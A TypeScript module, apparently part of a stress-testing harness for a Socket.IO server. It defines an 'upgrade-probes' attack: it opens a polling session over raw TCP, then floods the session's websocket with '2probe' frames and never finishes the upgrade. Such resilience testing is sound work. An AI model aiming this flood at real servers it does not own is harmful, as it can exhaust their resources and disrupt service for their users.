// An upgrade that is never finished: probe after probe on the second connection of a polling session.
import type { Attack, Target } from "../support/attack.ts";
import {
  firstBytes,
  frame,
  keepOn,
  openTcp,
  openWebsocket,
  pour,
  repeated,
  WEBSOCKET_PATH,
} from "../support/tcp.ts";

const PROBES = repeated(frame("2probe"));

export const upgradeProbes: Attack = {
  name: "upgrade-probes",
  run: (target) =>
    keepOn(target.signal, 4, async () => {
      const sid = await openPolling(target);
      if (sid === undefined) return;
      const socket = await openWebsocket(target, `${WEBSOCKET_PATH}&sid=${sid}`);
      if (socket !== undefined) await pour(socket, PROBES, target.signal);
    }),
};

/** The id of a polling session. */
export async function openPolling(
  place: Pick<Target, "port" | "address">,
): Promise<string | undefined> {
  const socket = openTcp(place);
  socket.write(
    "GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
  );
  const answer = await firstBytes(socket);
  socket.destroy();
  return /"sid":"([^"]+)"/.exec(answer)?.[1];
}
